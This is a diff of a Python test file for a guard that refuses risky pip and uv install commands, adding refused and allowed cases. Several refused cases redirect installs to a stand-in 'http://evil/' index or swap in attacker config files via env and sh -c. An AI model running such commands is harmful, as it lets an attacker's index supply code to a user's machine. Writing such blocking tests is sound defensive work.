@@ -33,6 +33,14 @@ def _refused(argv: list[str], **kwargs: str) -> str | None:
     ["env", "-i", "PATH=/bin", "pip", "install", "-i", "http://evil/", "foo"],
     ["env", "PIP_EXTRA_INDEX_URL=http://evil/", "pip", "install", "foo"],
     ["sudo", "-u", "root", "-E", "pip3", "install", "--extra-index-url=http://e/", "x"],
+    ["sudo", "pip", "install", "foo"],
+    ["env", "-i", "pip", "install", "foo"],
+    ["env", "-", "python", "-m", "pip", "install", "foo"],
+    ["env", "-u", "PIP_INDEX_URL", "pip", "install", "foo"],
+    ["env", "--unset=NETRC", "pip", "install", "foo"],
+    ["env", "PIP_CONFIG_FILE=/tmp/evil.conf", "pip", "install", "foo"],
+    ["env", "UV_CONFIG_FILE=/tmp/evil.toml", "uv", "pip", "install", "foo"],
+    ["sh", "-c", "export PIP_CONSTRAINT=/tmp/c.txt; pip install foo"],
     ["doas", "-u", "root", "pip", "install", "-ihttp://evil/", "x"],
     ["xargs", "pip", "install"],
     ["sh", "-c", "pip install --extra-index-url http://evil/ foo"],
@@ -64,6 +72,8 @@ def test_refused(argv: list[str]) -> None:
     ["env", "FOO=1", "nice", "-n", "5", "pip", "install", "foo"],
     ["sh", "-c", "pip install foo && echo done"],
     ["make", "install"],
+    ["sudo", "make", "install"],
+    ["env", "PIP_TIMEOUT=60", "pip", "install", "foo"],
     ["pip", "install", "--no-index", "foo"],
 ])
 def test_passed(argv: list[str]) -> None:
